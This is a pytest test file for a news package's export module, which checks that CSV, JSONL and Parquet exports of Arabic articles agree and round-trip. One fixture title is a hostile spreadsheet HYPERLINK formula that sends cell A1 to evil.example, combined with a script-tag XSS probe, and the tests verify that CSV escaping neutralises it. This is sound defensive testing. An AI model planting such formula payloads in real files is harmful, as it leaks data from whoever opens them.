"""Exports (:mod:`khabar.follow.exports`) of a real store: the examples, real SemEval texts and a hostile article."""

from __future__ import annotations

import csv
import io
import json
import sys
from pathlib import Path

import pytest

from khabar.follow.exports import COLUMNS, KINDS, ExportError, csv_cell, export, rows
from khabar.pipeline import ingest
from khabar.store.db import Store

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"انقر") <script>alert(1)</script>'


@pytest.fixture(scope="module")
def db(tmp_path_factory, examples_dir, semeval_path) -> Path:
    """The two examples (two outlets, one story), three real Arabic SemEval articles, one hostile one."""
    tmp = tmp_path_factory.mktemp("exports")
    records = []
    with semeval_path.open(encoding="utf-8") as f:
        for line in f:
            pair = json.loads(line)
            if pair["lang"] == "ar" and pair["text1"].strip():
                records.append({"url": pair["url1"], "title": pair["title1"], "text": pair["text1"],
                                "published": "2020-01-03T10:00:00+02:00"})
            if len(records) == 3:
                break
    records.append({"url": "https://evil.example/1", "title": HOSTILE_TITLE, "published": "2018-03-22",
                    "text": "+قال المتحدث باسم البلدية إن المياه ستعود غداً إلى كل الأحياء.\n@وأضاف أن الإصلاح انتهى."})
    feed = tmp / "more.jsonl"
    feed.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records), encoding="utf-8")
    path = tmp / "k.db"
    with Store(path) as s:
        ingest(examples_dir, s)
        ingest(feed, s)
    return path


def _export(db: Path, kind: str, fmt: str, **kw) -> tuple[bytes, int]:
    out = io.BytesIO()
    with Store(db) as s:
        n = export(s, kind, fmt, out, **kw)
    return out.getvalue(), n


def test_csv_has_bom_and_reads_back_with_arabic_intact(db):
    data, n = _export(db, "statements", "csv")
    assert data.startswith(b"\xef\xbb\xbf")
    table = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert len(table) == n > 0 and list(table[0]) == list(COLUMNS["statements"])
    # the examples' speaker, as both outlets wrote him (ة, never the matching form حمزه), denying, in both outlets
    his = [r for r in table if r["speaker"] == "حمزة بيرقدار"]
    assert {r["source"] for r in his if r["stance"] == "denies"} == {"alghad.tv", "orient-news.net"}
    assert not any("حمزه" in r["speaker"] for r in table)
    assert any("مفاوضات" in r["text"] for r in his)


def test_every_kind_in_every_text_format_has_the_same_rows_and_keys(db):
    for kind in KINDS:
        csv_data, n_csv = _export(db, kind, "csv")
        jsonl, n_json = _export(db, kind, "jsonl")
        lines = jsonl.decode("utf-8").splitlines()
        assert n_csv == n_json == len(lines) > 0, kind
        assert all(list(json.loads(line)) == list(COLUMNS[kind]) for line in lines), kind
        header = next(csv.reader(io.StringIO(csv_data.decode("utf-8-sig"))))
        assert header == list(COLUMNS[kind])


def test_rows_say_what_the_store_holds(db):
    with Store(db) as s:
        stories = list(rows(s, "stories"))
        articles = list(rows(s, "articles"))
        members = list(rows(s, "members"))
        count = s.count()
    assert len(articles) == count == 6
    example_story = next(st for st in stories if sorted(st["sources"]) == ["alghad.tv", "orient-news.net"])
    assert example_story["size"] == 2
    assert sum(st["size"] for st in stories) == len(members) == count
    assert {m["story"] for m in members} == {st["id"] for st in stories}
    assert all(m["copy_group"] in {a["id"] for a in articles} for m in members)
    assert all(a["story"] in {st["id"] for st in stories} for a in articles)


def test_formula_cells_are_neutralised_in_csv_only(db):
    data, _ = _export(db, "articles", "csv")
    table = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    evil = next(r for r in table if r["url"] == "https://evil.example/1")
    assert evil["title"] == "'" + HOSTILE_TITLE
    assert evil["text"].startswith("'+")
    assert not any(v.startswith(("=", "+", "-", "@")) for r in table for v in r.values())
    jsonl, _ = _export(db, "articles", "jsonl")
    kept = next(json.loads(x) for x in jsonl.decode().splitlines() if json.loads(x)["url"] == "https://evil.example/1")
    assert kept["title"] == HOSTILE_TITLE  # JSONL keeps the value exactly


def test_csv_cell():
    assert [csv_cell(v) for v in ("@SUM(A1)", "\tx", "عادي", "a-b", None, True, 1.5, -2)] == [
        "'@SUM(A1)", "'\tx", "عادي", "a-b", "", "true", "1.5", "-2"]


def test_filters(db):
    _, everything = _export(db, "articles", "jsonl")
    _, since = _export(db, "articles", "jsonl", since="2019-01-01")
    _, evil = _export(db, "articles", "jsonl", source="evil.example")
    assert everything == 6 and since == 5 and evil == 1


def test_parquet_round_trip(db, tmp_path):
    pq = pytest.importorskip("pyarrow.parquet")
    for kind in KINDS:
        path = tmp_path / f"{kind}.parquet"
        with Store(db) as s, path.open("wb") as out:
            n = export(s, kind, "parquet", out)
        table = pq.read_table(path)
        assert table.num_rows == n and table.column_names == list(COLUMNS[kind])
    stories = pq.read_table(tmp_path / "stories.parquet").to_pylist()
    assert any(sorted(st["sources"]) == ["alghad.tv", "orient-news.net"] for st in stories)


def test_parquet_without_pyarrow_is_a_clear_error(db, monkeypatch):
    monkeypatch.setitem(sys.modules, "pyarrow", None)  # what an install without pyarrow sees
    with Store(db) as s, pytest.raises(ExportError, match="pip install pyarrow"):
        export(s, "stories", "parquet", io.BytesIO())


def test_unknown_kind_or_format(db):
    with Store(db) as s:
        for kind, fmt in (("users", "csv"), ("stories", "xlsx")):
            with pytest.raises(ExportError):
                export(s, kind, fmt, io.BytesIO())
